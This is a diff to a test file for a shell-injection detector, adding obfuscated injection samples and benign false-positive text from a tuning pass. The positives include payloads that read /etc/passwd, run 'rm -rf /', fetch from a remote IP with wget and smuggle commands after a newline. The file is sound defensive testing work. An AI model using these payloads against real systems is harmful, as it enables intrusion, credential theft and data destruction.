@@ -5,6 +5,19 @@ import { detectShellInjection } from '../../src/detectors/shell-injection';
 
 /** Each must be detected at confidence `high` with a `shell.` rule. */
 const positives: string[] = [
+  // Kept while the prose shapes in the negatives were relaxed (fp-hunt).
+  "'id'",
+  '"whoami"',
+  "'l's -la",
+  '"w"ho"am"i',
+  "';w'h'oami",
+  'c\\at /etc/passwd',
+  'c$1at /etc/passwd',
+  '$u wget http://203.0.113.9/x',
+  "x;yes | rm -rf /",
+  '"ls" -la',
+  'x; grep root /etc/passwd',
+  "x|awk '{system(\"id\")}'",
   // A newline after the one value a ping/nslookup sink expects, then any command.
   '127.0.0.1\nid',
   'example.com\nwhoami',
@@ -319,6 +332,21 @@ const negatives: string[] = [
   "Test the ```.decorate()``` API",
   "[`PATH`](https://example.com/docs)",
   "<a title=\"Tom & Jerry\">x</a>",
+  // Honest chat, code review and data rows found by generated text (fp-hunt): each was shell.* high.
+  "\"ls meaning\" -- that's what she said :'(",
+  "'python snake' or 'what does sudo do'?",
+  "'bash party' or 'shell oil'?",
+  "\"sleep(5) minutes\" -- that's what she said",
+  '"sum(1..10) = 55"',
+  'Set `$http` to `true` and restart "api", then run `npm test`',
+  'LGTM! nit: `${name}` should be "${name}" in the docs; then `git pull --rebase`.',
+  'Can you run `cd src; ls` before merging? Also rename `utils.ts`.',
+  "Can you run `find . -name '*.ts' | xargs wc -l` before merging?",
+  '**Note**: `innerHTML` is deprecated; use `ps aux | grep node` instead (see #123).',
+  '^\\d{3}-\\d{4}$',
+  'Jean-Luc;desk lamp;$19.99;+49-30-123456;"Via dell\'Amore 7";yes',
+  'Stack: python; bash; sed; awk',
+  'Skills: bash; sed; awk; grep',
 ];
 
 t.test('shell injection vectors are detected at high confidence', async (t) => {
